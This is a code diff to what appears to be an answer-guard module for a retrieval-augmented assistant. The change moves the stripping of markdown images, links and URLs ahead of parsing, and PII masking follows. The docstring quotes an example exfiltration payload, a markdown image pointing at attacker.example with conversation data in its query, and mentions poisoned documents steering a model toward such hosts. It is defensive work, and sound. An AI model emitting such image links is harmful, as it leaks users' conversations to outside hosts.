@@ -6,14 +6,14 @@
 2. Groundedness per sentence against the evidence it cites (all evidence if it cites none),
    with every number checked; the answer's hallucination risk is ``1 - min(groundedness)``,
    and an answer above ``max_hallucination_risk`` is withheld (the caller gets an abstention).
-3. PII re-scan and markup: the final text passes the egress guard as model text: markdown
-   images, links and bare URLs are stripped unless their host is allow-listed
+3. Markup and PII re-scan: first of all, the draft's markdown images, links and bare URLs
+   are stripped (once, before it is parsed) unless their host is allow-listed
    (``HQG_GUARDS__ALLOWED_LINK_HOSTS``, sub-domains included) or the URL is copied verbatim
    from the evidence (an image is a request to its host, and a URL the model composed can
    carry the conversation out: ``![x](https://attacker.example/?d=…)``, even to a host a
-   poisoned document named); then it is scanned live (and by the egress finders) and masked
-   under the request's policy, so a value from a prompt or a model's memory is masked like one
-   from the evidence.
+   poisoned document named); last, the answer is scanned live (and by the egress finders)
+   and masked under the request's policy, so a value from a prompt or a model's memory is
+   masked like one from the evidence.
 """
 
 from __future__ import annotations
@@ -73,12 +73,9 @@ def guard_answer(
     risk = 1.0 - min(c.groundedness for c in checks)
     if risk > max_hallucination_risk:
         return _abstain(stripped=stripped, hallucination=risk, checks=checks)
-    answer = egress.model_text(
-        " ".join(p.text for p in parsed),
-        detector=detector.detect,
-        allowed_hosts=allowed_link_hosts,
-        allowed_urls=urls,
-    )
+    # links were stripped from the draft above; a model may repeat a value from anywhere, so
+    # the live detector is an extra finder
+    answer = egress.mask(" ".join(p.text for p in parsed), extra=(detector.detect,))
     return GuardedAnswer(
         text=answer.text,
         citations=_citations(parsed, evidence),
